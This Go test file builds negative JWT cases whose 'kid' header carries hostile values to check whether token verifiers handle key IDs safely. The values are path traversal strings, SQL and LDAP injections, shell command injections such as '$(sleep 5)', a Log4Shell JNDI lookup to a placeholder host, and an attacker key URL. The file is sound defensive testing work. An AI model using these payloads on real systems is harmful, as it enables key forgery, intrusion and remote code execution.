package negative

import "strings"

// keyIDs are tokens whose kid makes a careless verifier do something. Each is
// signed with what such a verifier ends up with as the key.
func keyIDs() []Case {
	kid := func(name, why, refs, rule, kid, secret string) Case {
		return Case{Name: "kid-" + name, Why: why, Reference: refs, Rule: rule, Check: "signature",
			token: func(s *source) []byte {
				return s.macced("HS256", []byte(secret), "kid", string(quote(strings.ReplaceAll(kid, "HOST", s.host))))
			}}
	}
	const path, sql, command = "RFC 8725 §3.10; CWE-22", "RFC 8725 §3.10; CWE-89", "RFC 8725 §3.10; CWE-78"
	return []Case{
		kid("traversal", "kid climbs to /dev/null, whose content is the empty secret", path, "kid-path", "../../../../../../dev/null", ""),
		kid("absolute", "kid is the path of a file with known content", path, "kid-path", "/proc/sys/kernel/randomize_va_space", "2\n"),
		kid("windows", "kid climbs by backslashes", path, "kid-path", `..\..\..\windows\win.ini`, ""),
		kid("encoded", "kid climbs by percent-encoded dots", path, "kid-path", "%2e%2e%2f%2e%2e%2fdev%2fnull", ""),
		kid("nul", "kid ends early for readers that stop at NUL", path+"; CWE-158", "kid-path", "../../dev/null\x00.pem", ""),
		kid("file-url", "kid is the URL of a local file", path, "kid-path", "file:///dev/null", ""),
		kid("sql-union", "kid makes a query return the attacker's secret", sql, "kid-sqli", "x' UNION SELECT 'attacker'-- ", "attacker"),
		kid("sql-or", "kid makes a query return the first key there is", sql, "kid-sqli", "x' OR '1'='1", ""),
		kid("command", "kid runs a command where it reaches a shell", command, "kid-command", "key.pem; sleep 5", ""),
		kid("pipe", "kid runs a command where it reaches Ruby's open", command, "kid-command", "|sleep 5", ""),
		kid("substitution", "kid runs a command inside double quotes", command, "kid-command", "$(sleep 5)", ""),
		kid("template", "kid is looked up by a logger that expands it", "CVE-2021-44228; RFC 8725 §3.10", "kid-template", "${jndi:ldap://HOST/a}", ""),
		kid("ldap", "kid widens an LDAP filter", "RFC 8725 §3.10; CWE-90", "kid-template", "*)(objectClass=*", ""),
		kid("url", "kid is a URL of the attacker's", "draft-ietf-oauth-rfc8725bis §3.10", "kid-url", "https://HOST/key", ""),
		{Name: "kid-number", Why: "kid is a number: lookups that convert it find another key", Reference: "RFC 7515 §4.1.4",
			Rule: "kid-invalid", Check: "header", token: func(s *source) []byte { return s.headed("kid", "0") }},
		{Name: "kid-object", Why: "kid is an object, which document databases take for a query", Reference: "RFC 7515 §4.1.4; CWE-943",
			Rule: "kid-invalid", Check: "header", token: func(s *source) []byte { return s.headed("kid", `{"$ne":null}`) }},
		{Name: "kid-unknown", Why: "kid names a key that nobody has, and the signature is of that key", Reference: "RFC 7515 §4.1.4", Check: "signature",
			token: func(s *source) []byte { return s.forged(s.twin, "kid", `"nobody-has-this-key"`) }},
	}
}
